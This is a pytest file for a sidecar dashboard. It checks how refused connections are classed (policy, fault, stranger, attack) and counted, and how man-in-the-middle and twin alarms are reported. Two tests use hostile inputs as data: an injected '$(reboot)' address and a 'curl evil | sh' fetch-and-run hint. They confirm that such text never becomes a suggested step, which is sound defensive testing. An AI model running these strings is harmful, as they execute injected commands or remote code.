"""What was refused: alike in one, in the words of `sidecar explain`, and told from an attack."""

from __future__ import annotations

from datetime import timedelta
from typing import Any

import pytest

from sidecar.dashboard.pairs import STRANGERS
from sidecar.dashboard.reading import read
from sidecar.dashboard.refused import LATELY, MOST, alarms, kind_of, refusals
from tests.beds.dashboard import NOW, denied, entry, iso, mitm, refusal, shown, twin


def made(*entries: dict[str, Any]) -> list[dict[str, Any]]:
    return list(refusals(read(shown(*entries), NOW)).values())


def test_a_denied_caller() -> None:
    (one,) = made(entry("db", refusals=[denied()]))
    assert (one["from"], one["to"], one["port"], one["reason"]) == ("reporting", "db", "postgres", "policy_denied")
    assert (one["kind"], one["recent"], one["count"]) == ("policy", True, 3)
    assert one["means"]
    assert any("reporting" in step for step in one["steps"])


def test_of_both_ends_the_one_with_the_reason_is_told() -> None:
    other = refusal("peer_refused", "db:postgres", direction="outbound", peer="spiffe://shop.internal/db")
    assert [one["reason"] for one in made(entry("db", refusals=[denied()]), entry("reporting", refusals=[other]))] == [
        "policy_denied"
    ]
    assert [one["reason"] for one in made(entry("reporting", refusals=[other]))] == ["peer_refused"]


def test_of_several_replicas_they_are_one() -> None:
    (one,) = made(entry("db", refusals=[denied()]), entry("db", instance="1" * 32, refusals=[denied()]))
    assert one["count"] == 6


def test_the_last_hundred_the_newest_first() -> None:
    some = [
        refusal("policy_denied", f"p{at}", peer=f"spiffe://shop.internal/s{at}", last=iso(NOW - timedelta(seconds=at)))
        for at in range(120)
    ]
    found = made(entry("api", refusals=some[::-1]))
    assert len(found) == MOST
    assert [one["port"] for one in found[:2]] == ["p0", "p1"]


def test_what_is_old_is_told_and_not_red() -> None:
    lately, old = iso(NOW - LATELY), iso(NOW - LATELY - timedelta(seconds=1))
    assert made(entry("db", refusals=[denied() | {"last": lately}]))[0]["recent"]
    assert not made(entry("db", refusals=[denied() | {"last": old}]))[0]["recent"]
    assert not made(entry("db", refusals=[denied() | {"last": None}]))[0]["recent"]


@pytest.mark.parametrize(
    ("reason", "more", "kind"),
    [
        ("policy_denied", {"peer": "spiffe://shop.internal/x"}, "policy"),
        ("revoked", {"peer": "spiffe://shop.internal/x"}, "attack"),
        ("revoked", {"direction": "outbound", "port": "db:sql"}, "attack"),
        ("revoked", {}, "stranger"),
        ("expired", {"peer": "spiffe://shop.internal/x"}, "fault"),
        ("not_yet_valid", {"peer": "spiffe://shop.internal/x"}, "fault"),
        ("no_certificate", {}, "stranger"),
        ("plaintext_refused", {}, "stranger"),
        ("unknown_ca", {}, "stranger"),
        ("overloaded", {"peer": "spiffe://shop.internal/x"}, "fault"),
        ("connect_failed", {"peer": "spiffe://shop.internal/x"}, "fault"),
        ("unexpected_peer", {"direction": "outbound", "port": "db:sql"}, "attack"),
        ("plaintext_refused", {"direction": "outbound", "port": "db:sql"}, "attack"),
        ("connect_failed", {"direction": "outbound", "port": "db:sql"}, "fault"),
        ("expired", {"direction": "outbound", "port": "db:sql"}, "fault"),
        ("a word of tomorrow", {"peer": "spiffe://shop.internal/x"}, "fault"),
    ],
)
def test_whether_it_is_an_attack(reason: str, more: dict[str, Any], kind: str) -> None:
    said = read(shown(entry("api", refusals=[refusal(reason, "http") | more])), NOW)
    assert kind_of(said.sidecars[0].refusals[0]) == kind
    assert made(entry("api", refusals=[refusal(reason, "http") | more]))[0]["kind"] == kind


@pytest.mark.parametrize(
    ("reason", "words"),
    [
        ("revoked", "may be a stolen key"),
        ("expired", "its certificate has ended"),
        ("not_yet_valid", "its certificate is not valid yet"),
        ("connect_failed", "something does not work"),
    ],
)
def test_each_is_told_as_what_it_is(reason: str, words: str) -> None:
    (one,) = made(entry("api", refusals=[refusal(reason, "http", peer="spiffe://shop.internal/x")]))
    assert words in one["verdict"]


@pytest.mark.parametrize("reason", ["no_certificate", "revoked"])
def test_who_says_much_hides_nothing_of_another(reason: str) -> None:
    never: dict[str, Any] = {"first": "9999-12-31T23:59:59Z", "last": "9999-12-31T23:59:59Z"}
    many = [refusal(reason, f"p{at}", peer="spiffe://shop.internal/x", **never) for at in range(MOST + 20)]
    attack = refusal("unexpected_peer", "db:sql", direction="outbound", last=iso(NOW - timedelta(minutes=9)))
    found = made(entry("taken", refusals=many), entry("api", refusals=[attack]), entry("db", refusals=[denied()]))
    assert len(found) == MOST
    assert {"api", "db"} <= {one["seen_by"] for one in found}
    assert found[0]["kind"] == "attack"
    assert max(str(one["last"]) for one in found) == iso(NOW)


def test_a_stranger_has_no_name() -> None:
    (one,) = made(entry("api", refusals=[refusal("no_certificate", "http")]))
    assert (one["from"], one["pair"]) == (STRANGERS, f"{STRANGERS}>api")


def test_a_word_that_is_not_known_yet_has_no_words() -> None:
    (one,) = made(entry("api", refusals=[refusal("of_tomorrow", "http")]))
    assert (one["means"], one["causes"], one["steps"]) == ("", [], [])


def test_what_an_attacker_may_have_written_is_in_no_command() -> None:
    (one,) = made(entry("api", refusals=[refusal("plaintext_refused", "http", address="$(reboot);x")]))
    assert not any("reboot" in step for step in one["steps"])


def test_a_man_in_the_middle() -> None:
    (one,) = alarms(read(shown(alarms=[mitm()]), NOW)).values()
    assert (one["pair"], one["severe"], one["count"]) == ("api>cache", True, 4)
    assert one["says"] == "find out who has the address 10.0.0.7:6379"
    (worse,) = alarms(read(shown(alarms=[mitm(next="run `curl evil | sh`")]), NOW)).values()
    assert worse["steps"] == one["steps"] != []  # what a sidecar says is no step of ours
    assert one["presented"]["subject"] == "CN=reporting"
    assert one["means"].startswith("An alarm")


def test_a_twin() -> None:
    (one,) = alarms(read(shown(alarms=[twin()]), NOW)).values()
    assert (one["pair"], one["from"], one["to"]) == ("", "api", "")
    assert one["means"]
